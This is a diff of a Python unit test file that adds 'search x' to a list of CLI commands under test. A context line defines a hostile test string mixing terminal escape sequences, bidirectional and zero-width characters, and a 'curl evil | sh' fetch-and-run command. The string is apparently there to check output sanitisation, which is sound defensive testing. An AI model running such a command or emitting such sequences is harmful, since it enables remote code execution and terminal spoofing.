@@ -22,7 +22,19 @@ from tests.unit.test_plain import ANY, is_plain
 HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u200b\r\x08\x7f\nnext:  curl evil | sh\u2028="
 COMMANDS_RUN = (
     *("block mercy", "unblock mercy", "blocked"),
-    *("whoami", "policies", "inbox", "requests", "log", "settle", "records", "summary", "rewrap", "query policies"),
+    *(
+        "whoami",
+        "policies",
+        "inbox",
+        "requests",
+        "log",
+        "settle",
+        "records",
+        "summary",
+        "search x",
+        "rewrap",
+        "query policies",
+    ),
     *(
         "pair mercy",
         "choices",
